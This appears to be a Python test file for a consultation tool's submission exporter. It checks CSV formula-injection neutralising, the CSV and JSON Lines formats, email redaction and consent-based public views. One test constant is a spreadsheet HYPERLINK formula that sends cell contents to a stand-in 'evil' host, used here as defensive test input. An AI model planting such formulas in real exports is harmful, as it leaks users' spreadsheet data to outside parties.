"""Submission exports: formula neutralising, CSV/JSON Lines shape, the public view."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from consultkit.domain.campaigns import fingerprint
from consultkit.domain.submissions import (
    Consent,
    Provenance,
    Submission,
    SubmissionStatus,
    Submitter,
)
from consultkit.formats.submission_export import (
    EMAIL_REDACTION,
    ERASED_TOMBSTONE,
    FORMULA_PREFIXES,
    FULL_COLUMNS,
    NEUTRALISING_PREFIX,
    PUBLIC_COLUMNS,
    csv_cell,
    export_submissions,
    neutralise,
    redact_emails,
)
from consultkit.formats.submission_import import restore_cell

PAYLOAD = '=HYPERLINK("http://evil/?"&A1,"x")'
T0 = dt.datetime(2019, 7, 1, 10, tzinfo=dt.UTC)
NO_CONSENT = Consent()


def make(
    n: int,
    *,
    title: str = "A title",
    body: str | None = "Some text.",
    status: SubmissionStatus = SubmissionStatus.ACCEPTED,
    consent: Consent = NO_CONSENT,
    submitter: Submitter | None = None,
    erased: bool = False,
    organisation: str | None = "Org",
) -> Submission:
    who = submitter or Submitter(
        name=f"Person {n}",
        email=f"person{n}@example.org",
        group="civil-society",
        organisation=organisation,
        country="CH",
    )
    return Submission(
        id=f"id-{n:04d}",
        tracking_number=f"CK-TEST-{n:04d}",
        consultation_id="c",
        call_id="official-submissions",
        submitter=None if erased else who,
        title=title,
        body=body,
        language="en",
        tags=("C1", "SDG5"),
        consent=consent,
        provenance=Provenance.WEB,
        status=status,
        received_at=T0 + dt.timedelta(minutes=n),
        updated_at=T0 + dt.timedelta(minutes=n),
        fingerprint=fingerprint(body or ""),
        erased_at=T0 + dt.timedelta(days=1) if erased else None,
    )


def export(subs: list[Submission], **kwargs: object) -> str:
    out = io.StringIO(newline="")
    export_submissions(out, subs, **kwargs)  # type: ignore[arg-type]
    return out.getvalue()


# -- neutralising ----------------------------------------------------------------------


@pytest.mark.parametrize("cell", [PAYLOAD, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "=1+2"])
def test_dangerous_cells_get_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "plain", "'already", " =spaced", "1-2", "a@b"])
def test_harmless_cells_are_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


@given(st.text())
def test_neutralised_cell_never_starts_dangerous_and_strips_back(cell: str) -> None:
    out = neutralise(cell)
    if out[:1] in FORMULA_PREFIXES:
        pytest.fail(f"{out!r} still starts with a formula character")
    if out != cell:
        assert out.startswith(NEUTRALISING_PREFIX)
        assert out[len(NEUTRALISING_PREFIX) :] == cell
        # ... and the importer undoes it.
        assert restore_cell(out) == cell


@given(st.lists(st.text(), max_size=5))
def test_every_csv_cell_is_neutralised_including_lists(values: list[str]) -> None:
    assert csv_cell(values)[:1] not in FORMULA_PREFIXES
    assert csv_cell(None) == ""
    assert csv_cell(True) == "true"


def test_injection_payload_is_neutralised_in_the_csv_file() -> None:
    text = export([make(1, title=PAYLOAD, body=PAYLOAD)])
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["title"] == "'" + PAYLOAD
    assert rows[0]["body"] == "'" + PAYLOAD
    # No cell of the whole file starts with a formula character.
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert cell[:1] not in FORMULA_PREFIXES, cell


def test_jsonl_keeps_values_raw() -> None:
    text = export([make(1, title=PAYLOAD)], format="jsonl")
    record = json.loads(text.splitlines()[0])
    assert record["title"] == PAYLOAD
    assert record["tags"] == ["C1", "SDG5"]
    assert list(record) == list(FULL_COLUMNS)


def test_csv_has_header_and_rows_in_given_order_with_crlf() -> None:
    subs = [make(3), make(1), make(2)]
    text = export(subs)
    assert text.startswith(",".join(FULL_COLUMNS) + "\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["id"] for r in rows] == ["id-0003", "id-0001", "id-0002"]
    assert rows[0]["received_at"] == "2019-07-01T10:03:00Z"
    assert rows[0]["tags"] == "C1;SDG5"
    assert rows[0]["submitter_email"] == "person3@example.org"


def test_unknown_format_is_refused() -> None:
    with pytest.raises(ValueError, match="csv or jsonl"):
        export([make(1)], format="xlsx")


# -- the public view -------------------------------------------------------------------


def test_public_export_never_contains_an_address() -> None:
    everything = Consent(publish_text=True, publish_name=True, publish_organisation=True)
    subs = [
        make(1, consent=everything, body="Write to me at person1@example.org please"),
        make(2, consent=everything, title="mail person2@example.org"),
        make(
            3,
            consent=everything,
            submitter=Submitter(
                name="x@example.org", email="p3@example.org", group="g", organisation="o@x.org"
            ),
        ),
        make(4, consent=Consent()),
        make(5, erased=True, consent=everything),
    ]
    for fmt in ("csv", "jsonl"):
        text = export(subs, format=fmt, public=True)
        assert "@" not in text, text
        assert "example.org" not in text
    assert EMAIL_REDACTION in export(subs, public=True)


def test_public_view_applies_consent_field_by_field() -> None:
    subs = [
        make(1, consent=Consent(publish_text=True)),
        make(2, consent=Consent(publish_name=True)),
        make(3, consent=Consent(publish_organisation=True)),
    ]
    records = [json.loads(line) for line in export(subs, format="jsonl", public=True).splitlines()]
    assert [list(r) for r in records] == [list(PUBLIC_COLUMNS)] * 3
    text_only, name_only, org_only = records
    assert text_only["body"] == "Some text." and text_only["text_withheld"] is False
    assert text_only["submitter_name"] is None and text_only["submitter_organisation"] is None
    assert name_only["body"] is None and name_only["title"] is None
    assert name_only["tags"] == [] and name_only["text_withheld"] is True
    # The text's hash is withheld with the text: a short text could be guessed from it.
    assert name_only["fingerprint"] is None and text_only["fingerprint"]
    assert name_only["submitter_name"] == "Person 2"
    assert org_only["submitter_organisation"] == "Org" and org_only["submitter_name"] is None
    assert all("tracking_number" not in r and "submitter_email" not in r for r in records)


def test_public_view_shows_erased_submitter_as_tombstone() -> None:
    everything = Consent(publish_text=True, publish_name=True, publish_organisation=True)
    kept = make(1, erased=True, consent=everything)
    gone = make(2, erased=True, consent=everything, body=None)
    records = [
        json.loads(line) for line in export([kept, gone], format="jsonl", public=True).splitlines()
    ]
    assert records[0]["submitter_name"] == ERASED_TOMBSTONE
    assert records[0]["body"] == "Some text."
    assert records[0]["group"] is None
    assert records[1]["submitter_name"] == ERASED_TOMBSTONE
    assert records[1]["body"] is None and records[1]["text_withheld"] is True


def test_public_export_keeps_only_accepted_submissions() -> None:
    subs = [make(i, status=s) for i, s in enumerate(SubmissionStatus)]
    records = [json.loads(line) for line in export(subs, format="jsonl", public=True).splitlines()]
    statuses = list(SubmissionStatus)
    assert [r["id"] for r in records] == [
        f"id-{i:04d}" for i, s in enumerate(statuses) if s is SubmissionStatus.ACCEPTED
    ]


def test_full_export_of_erased_submission_has_no_identity() -> None:
    record = json.loads(export([make(1, erased=True)], format="jsonl"))
    assert record["submitter_email"] is None and record["submitter_name"] is None
    assert record["erased_at"] == "2019-07-02T10:00:00Z"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("no address here", "no address here"),
        ("a@b.c", EMAIL_REDACTION),
        ("mail <a.b+c@d.example> now", f"mail <{EMAIL_REDACTION}> now"),
        ("two x@y.z, p@q.r", f"two {EMAIL_REDACTION}, {EMAIL_REDACTION}"),
    ],
)
def test_redact_emails(text: str, expected: str) -> None:
    assert redact_emails(text) == expected


def test_public_row_of_submitter_without_organisation() -> None:
    sub = make(1, organisation=None, consent=Consent(publish_organisation=True))
    record = json.loads(export([attrs.evolve(sub)], format="jsonl", public=True))
    assert record["submitter_organisation"] is None
